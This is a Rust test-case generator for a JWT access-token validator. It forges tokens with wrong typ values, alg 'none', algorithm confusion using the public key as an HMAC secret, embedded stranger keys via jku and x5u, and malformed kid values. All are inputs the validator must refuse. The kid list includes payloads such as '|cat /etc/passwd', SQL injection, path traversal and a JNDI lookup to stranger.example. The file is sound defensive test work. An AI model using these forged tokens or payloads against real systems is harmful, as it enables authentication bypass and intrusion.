//! Rules 47 and 49 to 53: types, algorithms, extensions and key ids.

use serde_json::{Value, json};
use touchmark_core::token::{Algorithm, Kid, SigningKey};

use super::keys::{Counter, attach, message, signed_by};
use super::{Case, Keys};

pub(super) fn forge(keys: &Keys, cases: &mut Vec<Case>) {
    types(keys, cases);
    unsigned(keys, cases);
    confusion(keys, cases);
    extensions(keys, cases);
    embedded_keys(keys, cases);
    key_ids(keys, cases);
    key_choice(keys, cases);
}

fn with(keys: &Keys, member: &str, value: Value) -> String {
    let mut header = keys.header();
    header[member] = value;
    keys.with_header(&header)
}

fn without(keys: &Keys, member: &str) -> Value {
    let mut header = keys.header();
    header.as_object_mut().expect("an object").remove(member);
    header
}

fn types(keys: &Keys, cases: &mut Vec<Case>) {
    for typ in ["AT+JWT", "application/at+jwt", "Application/AT+jwt"] {
        cases.push(Case::new(
            format!("r47 typ {typ}"),
            with(keys, "typ", typ.into()),
        ));
    }
    for typ in [
        "JWT",
        "jwt",
        "dpop+jwt",
        "logout+jwt",
        "client-authentication+jwt",
        "at+jwt ",
        "at jwt",
        "",
        "application/",
        "text/at+jwt",
        "application/application/at+jwt",
        "at+jwt\0",
    ] {
        let token = with(keys, "typ", typ.into());
        cases.push(Case::new(format!("r47 typ {typ:?}"), token).refused("wrong_typ"));
    }
    let token = keys.with_header(&without(keys, "typ"));
    cases.push(Case::new("r47 no typ", token.clone()).refused("wrong_typ"));
    cases.push(
        Case::new("r47 no typ where other tokens are asked for", token).policy("other tokens"),
    );
    let token = keys.good();
    let case = Case::new(
        "r47 an access token where other tokens are asked for",
        token,
    );
    cases.push(case.policy("other tokens").refused("wrong_typ"));
    for value in [json!(null), json!(["at+jwt"]), json!(1)] {
        let name = format!("r47 typ {value} of another type");
        cases.push(Case::new(name, with(keys, "typ", value)).refused("bad_header_member"));
    }
}

fn unsigned(keys: &Keys, cases: &mut Vec<Case>) {
    let signature = keys
        .good()
        .rsplit_once('.')
        .expect("three segments")
        .1
        .to_owned();
    for alg in ["none", "None", "NONE", "nOnE"] {
        let mut header = keys.header();
        header["alg"] = alg.into();
        let message = message(&header.to_string(), keys.claims().to_string());
        for (name, signature) in [("no", ""), ("a", signature.as_str())] {
            let name = format!("r49 alg {alg} with {name} signature");
            let case = Case::new(name, format!("{message}.{signature}")).policy("every algorithm");
            cases.push(case.refused("alg_none"));
        }
    }
    for alg in ["", "none ", " none", "non", "n\u{43e}ne", "null"] {
        let token = with(keys, "alg", alg.into());
        cases.push(Case::new(format!("r49 alg {alg:?}"), token).refused("alg_unsupported"));
    }
    for value in [
        json!(null),
        json!(false),
        json!(0),
        json!(["EdDSA"]),
        json!({"EdDSA": 1}),
    ] {
        let name = format!("r49 alg {value} of another type");
        cases.push(Case::new(name, with(keys, "alg", value)).refused("alg_missing"));
    }
    let token = keys.with_header(&without(keys, "alg"));
    cases.push(Case::new("r49 no alg", token).refused("alg_missing"));
}

fn confusion(keys: &Keys, cases: &mut Vec<Case>) {
    cases.push(Case::new(
        "r50 Ed25519 by its own name",
        with(keys, "alg", "Ed25519".into()),
    ));
    cases.push(Case::new("r50 a good token with ES256", keys.es256()));
    for alg in [
        "eddsa", "ED25519", "Ed448", "ES384", "ES512", "ES256K", "RS1", "RS384", "PS512", "dir",
    ] {
        let token = with(keys, "alg", alg.into());
        let case = Case::new(format!("r50 alg {alg}"), token).policy("every algorithm");
        cases.push(case.refused("alg_unsupported"));
    }
    // The public key, in every form in which a library may have it, as a secret.
    let public = keys.ed25519.verifying_key().write_public().expect("public");
    let jwk = Value::from(public).to_string().into_bytes();
    let x = keys.ed25519.verifying_key().public_material();
    let x = format!("{x:?}").into_bytes();
    for (name, secret) in [("JWK", jwk), ("text", x)] {
        let secret =
            SigningKey::from_secret(Algorithm::Hs256, secret, Kid::new("ed-1").expect("an id"));
        let secret = secret.expect("long enough");
        for kid in ["ed-1", ""] {
            let mut header = json!({"alg": "HS256", "typ": "at+jwt", "kid": kid});
            let (said, code) = match kid {
                "" => {
                    header.as_object_mut().expect("an object").remove("kid");
                    ("no kid", "unknown_key")
                }
                _ => ("its kid", "key_alg_mismatch"),
            };
            let token = signed_by(&secret, &header.to_string(), keys.claims().to_string());
            let name = format!("r50 the {name} of the public key as secret, {said}");
            cases.push(Case::new(name.clone(), token.clone()).refused("alg_not_allowed"));
            let name = format!("{name}, where HS256 is allowed");
            cases.push(
                Case::new(name, token)
                    .policy("every algorithm")
                    .refused(code),
            );
        }
    }
    for (alg, kid, code) in [
        ("ES256", "ed-1", "key_alg_mismatch"),
        ("EdDSA", "es-1", "key_alg_mismatch"),
        ("RS256", "ed-1", "key_alg_mismatch"),
        ("HS512", "hs-1", "key_alg_mismatch"),
        ("HS256", "hs-2", "key_alg_mismatch"),
    ] {
        let token = keys.with_header(&json!({"alg": alg, "typ": "at+jwt", "kid": kid}));
        let case = Case::new(
            format!("r50 {alg} with the key {kid} of another algorithm"),
            token,
        );
        cases.push(
            case.jwks("main with secrets")
                .policy("every algorithm")
                .refused(code),
        );
    }
    for (alg, jwks, code) in [
        ("RS256", "rsa", "ok"),
        ("PS256", "rsa", "ok"),
        ("RS256", "rsa for RS256", "ok"),
        ("PS256", "rsa for RS256", "key_alg_mismatch"),
        ("RS256", "rsa for PS256", "key_alg_mismatch"),
    ] {
        let case = Case::new(
            format!("r50 {alg} with the key set {jwks:?}"),
            keys.rsa(alg),
        );
        cases.push(case.jwks(jwks).policy("every algorithm").refused(code));
    }
    let token = keys.rsa("RS256");
    cases.push(
        Case::new("r50 RS256 where it is not allowed", token)
            .jwks("rsa")
            .refused("alg_not_allowed"),
    );
    for (alg, kid, key) in [
        ("HS256", "hs-1", &keys.hs256),
        ("HS512", "hs-2", &keys.hs512),
    ] {
        let header = json!({"alg": alg, "typ": "at+jwt", "kid": kid}).to_string();
        let token = signed_by(key, &header, keys.claims().to_string());
        let case = Case::new(format!("r50 a good token with {alg}"), token);
        cases.push(case.jwks("main with secrets").policy("every algorithm"));
    }
}

fn extensions(keys: &Keys, cases: &mut Vec<Case>) {
    for crit in [
        json!(["exp"]),
        json!([]),
        json!(["alg"]),
        json!(["b64"]),
        json!("exp"),
        json!(null),
    ] {
        let name = format!("r51 crit {crit}");
        cases.push(Case::new(name, with(keys, "crit", crit)).refused("crit_unsupported"));
    }
    for b64 in [json!(false), json!(true)] {
        let name = format!("r51 b64 {b64}");
        cases.push(Case::new(name, with(keys, "b64", b64)).refused("b64_unsupported"));
    }
    let mut header = keys.header();
    header["crit"] = json!(["b64"]);
    header["b64"] = false.into();
    let case = Case::new("r51 b64 false as crit demands", keys.with_header(&header));
    cases.push(case.refused("crit_unsupported"));
    cases.push(Case::new(
        "r51 an unknown member that is not critical",
        with(keys, "exp", 0.into()),
    ));
}

fn embedded_keys(keys: &Keys, cases: &mut Vec<Case>) {
    let theirs = keys
        .stranger
        .verifying_key()
        .write_public()
        .expect("public");
    for (member, value) in [
        ("jwk", Value::from(theirs)),
        ("jku", "https://stranger.example/jwks.json".into()),
        ("x5u", "https://stranger.example/cert.pem".into()),
        ("x5c", json!(["MIIB"])),
    ] {
        let mut header = keys.header();
        header[member] = value;
        let claims = keys.claims().to_string();
        let token = signed_by(&keys.stranger, &header.to_string(), &claims);
        let case = Case::new(format!("r52 the key of a stranger by {member}"), token);
        cases.push(case.refused("bad_signature"));
        let token = keys.ed25519(&header.to_string(), &claims);
        cases.push(Case::new(
            format!("r52 a good token with a useless {member}"),
            token,
        ));
        header["kid"] = "stranger".into();
        let token = signed_by(&keys.stranger, &header.to_string(), &claims);
        let case = Case::new(
            format!("r52 the key of a stranger by {member} and kid"),
            token,
        );
        cases.push(case.refused("unknown_key"));
    }
}

fn key_ids(keys: &Keys, cases: &mut Vec<Case>) {
    for kid in [
        "",
        "ED-1",
        "ed-1 ",
        "ed-1\0",
        "ed-1/",
        "ed",
        "ed-10",
        "../../../../dev/null",
        "' OR '1'='1",
        "ed-1' UNION SELECT 'k' --",
        "https://stranger.example/jwks.json",
        "e\u{301}d-1",
        "\u{fb02}-1",
        "ed\u{2010}1",
        "|cat /etc/passwd",
        "${jndi:ldap://stranger.example/a}",
    ] {
        let token = with(keys, "kid", kid.into());
        cases.push(Case::new(format!("r53 kid {kid:?}"), token).refused("unknown_key"));
    }
    let token = with(keys, "kid", "k".repeat(256).into());
    cases.push(Case::new("r53 kid of 256 bytes", token).refused("unknown_key"));
    let token = with(keys, "kid", "k".repeat(257).into());
    cases.push(Case::new("r53 kid of 257 bytes", token).refused("kid_too_long"));
    for value in [
        json!(null),
        json!(1),
        json!(["ed-1"]),
        json!({"kid": "ed-1"}),
    ] {
        let name = format!("r53 kid {value} of another type");
        cases.push(Case::new(name, with(keys, "kid", value)).refused("bad_header_member"));
    }
}

fn key_choice(keys: &Keys, cases: &mut Vec<Case>) {
    let nameless = keys.with_header(&without(keys, "kid"));
    cases.push(Case::new(
        "r53 no kid, one key of the algorithm",
        nameless.clone(),
    ));
    let case = Case::new("r53 no kid where it is required", nameless.clone());
    cases.push(case.policy("kid required").refused("kid_missing"));
    let case = Case::new("r53 no kid, six keys of the algorithm", nameless);
    cases.push(
        case.jwks("six keys of one algorithm")
            .refused("ambiguous_key"),
    );
    cases.push(Case::new("r53 kid among six keys", keys.good()).jwks("six keys of one algorithm"));
    cases.push(
        Case::new("r53 kid, key without kid", keys.good())
            .jwks("no kid")
            .refused("unknown_key"),
    );
    cases.push(
        Case::new("r53 no keys", keys.good())
            .jwks("empty")
            .refused("unknown_key"),
    );
    let case = Case::new("r53 a key for encryption", keys.good()).jwks("for encryption");
    cases.push(case.refused("unknown_key"));
    let token = with(keys, "kid", "token-4f1c".into());
    cases.push(Case::new("r53 kid that names the token", token).policy("kid ignored"));
    let same = with(keys, "kid", "same".into());
    let case = Case::new("r53 one kid for two algorithms", same.clone());
    cases.push(case.jwks("one kid for two algorithms"));
    let case = Case::new("r53 one kid for two keys, the second of which signed", same);
    cases.push(case.jwks("one kid for two keys"));
    let header = json!({"alg": "EdDSA", "typ": "at+jwt", "kid": "same"}).to_string();
    let message = message(&header, keys.claims().to_string());
    let case = Case::new(
        "r53 one kid for two keys, none of which signed",
        attach(&message, &Counter(7).bytes(64)),
    );
    cases.push(case.jwks("one kid for two keys").refused("bad_signature"));
}
